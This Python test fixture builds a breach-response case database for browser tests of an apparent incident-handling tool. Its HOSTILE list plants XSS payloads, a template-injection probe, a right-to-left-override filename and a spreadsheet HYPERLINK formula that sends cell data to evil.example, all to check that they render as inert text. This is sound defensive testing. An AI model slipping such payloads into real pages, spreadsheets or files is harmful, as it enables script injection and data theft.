"""The case the browser tests look at, built through the real CLI (in process) once per session.

Incident 1 is the demo job on a small synthetic leak: attach, facts, scope, assess, and notices
really sent to a local aiosmtpd server (so the outbox has states and references). Incident 2 is
hostile: its name, timeline, facts and leaked people carry script tags, naughty strings and
right-to-left overrides from ``tests/readers/naughty_strings.py``. Incident 3 exists so that
tests can check a non-member sees nothing of it.
"""

from __future__ import annotations

import os
import shutil
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from aiosmtpd.controller import Controller
from click.testing import CliRunner
from sqlalchemy import select
from sqlalchemy.orm import Session

from breachscope.case import api
from breachscope.case.db import open_case_db, session_scope
from breachscope.case.models import Account, Exposure, Match
from breachscope.case.tasks import add_task, update_task
from breachscope.cli import cli
from breachscope.clock import FixedClock
from tests.case_helpers import make_case
from tests.notify.conftest import Recorder, free_port

NOW = datetime(2025, 11, 27, 12, 0, tzinfo=UTC)
#: Leaked values that must be shown as inert text everywhere.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "https://evil.example/login",
    "\u202egnp.exe",
    "{{7*7}}",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
)


@dataclass(frozen=True)
class ConsoleCase:
    db_url: str
    folder: Path
    notify_toml: Path
    demo: int
    hostile: int
    other: int


def _cli(*args: str, env: dict[str, str]) -> str:
    result = CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def build(folder: Path) -> ConsoleCase:
    folder.mkdir(parents=True, exist_ok=True)
    db = folder / "case.db"
    url = f"sqlite:///{db}"
    env = {
        "BREACHSCOPE_DB": url,
        "BREACHSCOPE_AUTHOR": "builder",
        "BREACHSCOPE_KEY_DIR": os.environ["BREACHSCOPE_KEY_DIR"],
    }
    _cli("synth", "--rows", "300", "--out", str(folder / "leak"), "--seed", "7", "--formats", "csv", env=env)
    _cli(
        "case", "new", "Mixpanel analytics leak", "--vendor", "Mixpanel",
        "--vendor-detected-at", "2025-11-09", "--vendor-notified-us-at", "2025-11-26T18:00-08:00",
        "--dataset-received-at", "2025-11-27T09:00+07:00", "--aware-at", "2025-11-27T09:00+07:00",
        env=env,
    )  # fmt: skip
    _cli("case", "attach", "1", str(folder / "leak" / "people.csv"), env=env)
    _cli(
        "case", "facts", "1", "--set", "cause=outside-attacker", "--set", "our-systems-affected=no",
        "--set", "encrypted=no", "--set", "support-phone=+62 21 5550 1000", env=env,
    )  # fmt: skip
    _cli("scope", "--incident", "1", "--directory", str(folder / "leak" / "directory.csv"), env=env)
    _cli("assess", "--incident", "1", "--now", NOW.isoformat(), env=env)
    toml = _send_notices(folder, env)
    engine = open_case_db(url)
    try:
        clock = FixedClock(NOW)
        hostile = make_case(engine, clock, [_hostile_row(i, v) for i, v in enumerate(HOSTILE)])
        with session_scope(engine) as s:
            incident = api.get_incident(s, hostile)
            incident.name = "Leak <script>alert('name')</script> \u202eexe.txt"
            for value in HOSTILE:
                api.add_timeline_event(s, hostile, f"note: {value}", author=value, clock=clock)
            other = api.create_incident(s, "Someone else's incident", vendor="Other", clock=clock).id
            _tasks(s, clock)
            _review_item(s)
    finally:
        engine.dispose()
    return ConsoleCase(url, folder, toml, 1, hostile, other)


def _tasks(s: Session, clock: FixedClock) -> None:
    for title, due, owner in (
        ("Notify the supervisory authority (DE)", NOW - timedelta(hours=5), "Lee Legal"),
        ("Rotate the Mixpanel project token", NOW + timedelta(days=2), "Sam Security"),
        ("Brief the support desk", None, None),
    ):
        add_task(
            s, 1, title, actor="builder", kind="manual", source="manual", due_at=due, owner=owner, clock=clock
        )
    done = add_task(s, 1, "Confirm the vendor stopped sending data", actor="builder", clock=clock).task
    update_task(s, done.id, actor="builder", status="done", clock=clock)


def _review_item(s: Session) -> None:
    """An unmatched leaked person of incident 1 who resembles two accounts (the review list)."""
    matched = select(Match.exposure_id).where(Match.incident_id == 1, Match.ambiguous.is_(False))
    ghost = s.scalars(
        select(Exposure.id).where(Exposure.incident_id == 1, Exposure.id.not_in(matched))
    ).first()
    candidates = list(s.scalars(select(Account.id).where(Account.incident_id == 1).limit(2)))
    assert ghost is not None and len(candidates) == 2
    for account in candidates:
        s.add(Match(incident_id=1, exposure_id=ghost, account_id=account, key="email_lookalike", strength=1,
                    ambiguous=True))  # fmt: skip


def _hostile_row(i: int, value: str) -> dict[str, str]:
    return {
        "$distinct_id": f"h{i}",
        "$email": f"person{i}@example.org",
        "$name": value,
        "$city": value,
        "$region": "Jakarta",
        "mp_country_code": "ID",
        "org_id": value,
        "user_id": f"u{i}",
    }


def _send_notices(folder: Path, env: dict[str, str]) -> Path:
    """Send the regulator drafts and the admins' notices for real, to a local SMTP server."""
    shutil.rmtree(folder / "keys", ignore_errors=True)
    _cli("notify", "dkim-key", "--out", str(folder / "keys"), "--selector", "test", env=env)
    port = free_port()
    controller = Controller(Recorder(), hostname="127.0.0.1", port=port)
    controller.start()
    toml = folder / "notify.toml"
    toml.write_text(
        f"""[notify]
company = "Example Corp"
official_domain = "example.com"
from = "Example Corp Security <security@example.com>"
reply_to = "privacy@example.com"
drafts_to = "legal@example.com"
support_phone = "+62 21 555 0100"
verification_key = "console-test-verification-key"
[notify.dkim]
selector = "test"
private_key_file = "{folder / "keys" / "test.pem"}"
[notify.smtp]
host = "127.0.0.1"
port = {port}
security = "none"
rate_per_second = 0
""",
        encoding="utf-8",
    )
    try:
        for audience in ("regulators", "admins"):
            _cli("notify", "--incident", "1", "--config", str(toml), "--audience", audience, "--yes", env=env)
    finally:
        controller.stop()
    return toml
